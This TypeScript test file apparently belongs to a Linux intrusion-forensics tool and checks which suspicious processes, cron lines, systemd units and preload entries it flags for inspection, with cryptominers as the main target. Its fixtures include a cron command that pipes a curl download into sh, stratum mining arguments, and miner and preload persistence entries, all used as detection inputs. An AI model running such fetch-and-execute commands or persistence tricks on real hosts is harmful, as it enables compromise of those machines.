import { expect, test } from 'vitest';
import type { Process, Snapshot } from '../../../domain/snapshot.ts';
import { autostart } from '../../../test/shared/snapshots.ts';
import type { Written } from '../../../test/shared/written.ts';
import { surveyed } from '../../../test/shared/written.ts';
import { captured, OPTIONS } from '../captured.fixture.ts';
import { parseSurvey } from '../index.ts';
import { deepLook, scriptsOf } from './choose-contents.ts';

const infected: Snapshot = parseSurvey(captured('infected'), OPTIONS);
const clean: Snapshot = parseSurvey(captured('clean'), OPTIONS);
const init = clean.processes.find((process) => process.image?.path === '/usr/sbin/cron');

/** A process like the clean host's, changed as told. */
function process(
  change: Written<Partial<Process>>,
  image: Written<Partial<NonNullable<Process['image']>>> = {},
): Process {
  if (init?.image == null) throw new Error('the captured host has no cron');
  return surveyed<Process>({
    ...init,
    pid: 4000,
    ...change,
    image: { ...init.image, sha256: null, inode: '4000', ...image },
  });
}
const looksOf = (change: Written<Partial<Snapshot>>) =>
  deepLook(
    surveyed<Snapshot>({ ...clean, processes: [], cronFiles: [], files: [], persistence: [], ...change }),
  );

const images = (change: Written<Partial<Snapshot>>) => looksOf(change).filter(({ kind }) => kind === 'image');

test('a host whose programs are where they belong needs no closer look', () => {
  expect(looksOf({ processes: [process({})] })).toEqual([]);
});

test.each([
  ['is deleted', process({}, { deleted: true, links: 0 })],
  ['lies in a temporary folder', process({}, { path: '/dev/shm/x' })],
  ['is only in memory', process({}, { path: '/memfd:x', deleted: true })],
  ['lies outside the system folders', process({}, { path: '/home/u/x' })],
  ['has the name of a kernel thread', process({ comm: 'kworker/0:1' })],
  ['calls itself a kernel thread', process({ argv: ['[kthreadd]'] })],
  ['is busy', process({ cpuShare: 0.9, cpuSeconds: 900 })],
  ['has mining arguments', process({ argv: ['/usr/bin/x', '-o', 'stratum+tcp://h.example:1'] })],
  ['is hidden', process({ hidden: true })],
])('an image that %s is read', (_why, suspect) => {
  expect(images({ processes: [suspect] })).toMatchObject([{ kind: 'image', pid: 4000 }]);
});

test.each(['migration-runner', 'migrations', 'rcu_report.py'])('%s is no kernel thread’s name', (name) => {
  expect(looksOf({ processes: [process({ comm: name, argv: [name] })] })).toEqual([]);
});

test('the configuration that a miner reads by itself is read where it works and where it lies, if it talks or is odd', () => {
  const at = (change: Written<Partial<Process>>, path: string, sockets: Snapshot['sockets'] = []) =>
    looksOf({ processes: [process({ cwd: '/var/lib/.x', ...change }, { path })], sockets }).flatMap((look) =>
      look.kind === 'file' ? [look.path] : [],
    );
  const both = [
    '/opt/.y/config.json',
    '/opt/.y/.xmrig.json',
    '/var/lib/.x/config.json',
    '/var/lib/.x/.xmrig.json',
  ];
  expect(at({}, '/opt/.y/sysd')).toEqual(expect.arrayContaining(both));
  // The listing of /tmp says that there is none.
  expect(at({ cwd: '/' }, '/tmp/.y/sysd')).toEqual([]);
  expect(at({ cwd: '/' }, '/tmp/.a/.b/.c/sysd')).toContain('/tmp/.a/.b/.c/config.json');
  expect(at({ argv: ['sysd', '--config=etc/a.json'] }, '/tmp/.y/sysd')).toContain('/var/lib/.x/etc/a.json');
  expect(at({}, '/opt/app/worker')).toEqual([]);
  const talking = {
    protocol: 'tcp' as const,
    state: 'ESTABLISHED',
    local: { address: '192.0.2.5', port: 40_000 },
    remote: { address: '203.0.113.66', port: 443 },
    inode: '1',
    uid: 0,
    pids: [4000],
  };
  expect(at({}, '/opt/app/worker', [talking])).toContain('/opt/app/config.json');
  expect(at({ cpuShare: 1, cpuSeconds: 900 }, '/usr/bin/x', [talking])).toEqual([]);
});

test('a library that our own tools had mapped is read', () => {
  expect(looksOf({ injected: ['/lib/libgcwrap.so'] })).toMatchObject([
    { kind: 'file', path: '/lib/libgcwrap.so' },
  ]);
});

test('what is gone, or ours, is not read', () => {
  const inTmp = { path: '/tmp/x' };
  expect(looksOf({ processes: [process({ state: 'Z' }, inTmp), process({ pid: 1 }, inTmp)] })).toEqual([]);
});

test('equal images are read once', () => {
  const same = { path: '/tmp/x', sha256: 'a'.repeat(64) };
  const found = images({
    processes: [process({ pid: 5 }, same), process({ pid: 6 }, { ...same, inode: '7' })],
  });
  expect(found).toHaveLength(1);
});

test.each([
  ['/usr/bin/dash', ['sh', '/tmp/i.sh'], '/', null, '/tmp/i.sh'],
  ['/usr/bin/bash', ['bash', '-x', './i.sh', 'a'], '/tmp', null, '/tmp/i.sh'],
  ['/usr/bin/busybox', ['busybox', 'sh', '/tmp/i.sh'], '/', null, '/tmp/i.sh'],
  ['/usr/bin/python3.11', ['python3', '-u', '/opt/x.py'], '/', null, '/opt/x.py'],
  ['/usr/bin/dash', ['sh', '-c', '/tmp/i.sh'], '/', null, null],
  ['/usr/bin/dash', ['sh'], '/', '/tmp/fed', '/tmp/fed'],
  ['/usr/bin/dash', ['sh'], '/', 'pipe:[1]', null],
  ['/usr/bin/sleep', ['sleep', '/tmp/i.sh'], '/', null, null],
  ['/usr/bin/busybox', ['busybox', 'sleep', '1'], '/', null, null],
  ['/usr/lib/jvm/bin/java', ['java', '-Xmx1g', '-jar', 'm.jar'], '/opt/x', null, '/opt/x/m.jar'],
  ['/usr/lib/ld-linux-x86-64.so.2', ['/lib64/ld', '--library-path', '/l', '/tmp/x'], '/', null, '/tmp/x'],
  ['/usr/local/bin/pypy3', ['pypy3', '/opt/x.py'], '/', null, '/opt/x.py'],
  ['/usr/bin/mksh', ['mksh', './i.sh'], '/tmp', null, '/tmp/i.sh'],
])('%s with %j in %s runs %s %s', (path, argv, cwd, stdin, script) => {
  expect(scriptsOf(process({ argv, cwd, stdin }, { path }))).toEqual(script === null ? [] : [script]);
});

test('files that cron lines and starters name, and what carries the name of a download, are read', () => {
  const file = infected.cronFiles[0];
  const lineText = infected.cronFiles.flatMap((cron) => cron.lines).find((line) => line.command !== null);
  const record = infected.files.find((one) => one.path === '/tmp/i.sh');
  if (file === undefined || lineText === undefined || record === undefined)
    throw new Error('capture has changed');
  const command = 'sh%curl http://203.0.113.20/get/update | sh; /opt/run/me';
  const paths = looksOf({
    cronFiles: [{ ...file, lines: [{ ...lineText, command }] }],
    files: [{ ...record, path: '/tmp/a/update', identity: { ...record.identity, mode: '0644' } }],
    persistence: [autostart('/etc/systemd/system/x.service', 'ExecStart=/dev/shm/svc')],
  }).map((look) => look.path);
  expect(paths.sort()).toEqual([
    '/dev/shm/svc',
    '/etc/systemd/system/x.service',
    '/opt/run/me',
    '/tmp/a/update',
  ]);
});

test('folders of periodic scripts and templates for temporary files are no files to read', () => {
  const [cron] = infected.cronFiles;
  const line = infected.cronFiles.flatMap(({ lines }) => lines).find(({ command }) => command !== null);
  const record = infected.files.find(({ path }) => path === '/tmp/i.sh');
  if (cron === undefined || line === undefined || record === undefined)
    throw new Error('capture has changed');
  const there = {
    cronFiles: [{ ...cron, lines: [{ ...line, command: 'cd / && run-parts /etc/cron.hourly' }] }],
    persistence: [autostart('/root/.profile', 't=$(mktemp /tmp/t.XXXXXX)')],
  };
  expect(looksOf({ ...there, files: [] })).toEqual([]);
  const named = { ...record, path: '/tmp/t.XXXXXX', identity: { ...record.identity, mode: '0644' } };
  expect(looksOf({ ...there, files: [named] }).map(({ path }) => path)).toEqual(['/tmp/t.XXXXXX']);
});

test('a name like a template hides nothing where the survey does not list', () => {
  const [cron] = infected.cronFiles;
  const line = infected.cronFiles.flatMap(({ lines }) => lines).find(({ command }) => command !== null);
  if (cron === undefined || line === undefined) throw new Error('capture has changed');
  const looks = looksOf({
    cronFiles: [{ ...cron, lines: [{ ...line, command: 'sh /opt/run.XXXXXX; sh /tmp/a/b/c/d/e.XXXXXX' }] }],
    persistence: [autostart('/etc/ld.so.preload', '/usr/local/lib/libXXXXXX')],
    files: [],
  });
  const read = looks.map(({ path }) => path).sort();
  expect(read).toEqual([
    '/etc/ld.so.preload',
    '/opt/run.XXXXXX',
    '/tmp/a/b/c/d/e.XXXXXX',
    '/usr/local/lib/libXXXXXX',
  ]);
});

test('a preloaded library is read wherever it lies', () => {
  const persistence = [autostart('/etc/ld.so.preload', '/usr/lib/libsystem.so\n')];
  expect(looksOf({ persistence }).map((look) => look.path)).toEqual([
    '/usr/lib/libsystem.so',
    '/etc/ld.so.preload',
  ]);
});

test('a script of nobody’s that only a login line or a unit starts is read, and whose that is; what a package owns, or an argument, is not', () => {
  const persistence = [
    autostart(
      '/root/.profile',
      '/home/build/miner.sh --config=/home/build/c.json >/dev/null 2>&1\n/usr/bin/mesg n\n',
    ),
    autostart(
      '/etc/systemd/system/x.service',
      '[Service]\nExecStart=/srv/app/run.sh\nExecStop=/bin/kill $MAINPID\n',
    ),
  ];
  const paths = looksOf({ persistence }).map(({ path }) => path);
  expect(paths.sort()).toEqual([
    '/etc/systemd/system/x.service',
    '/home/build/miner.sh',
    '/root/.profile',
    '/srv/app/run.sh',
  ]);
});
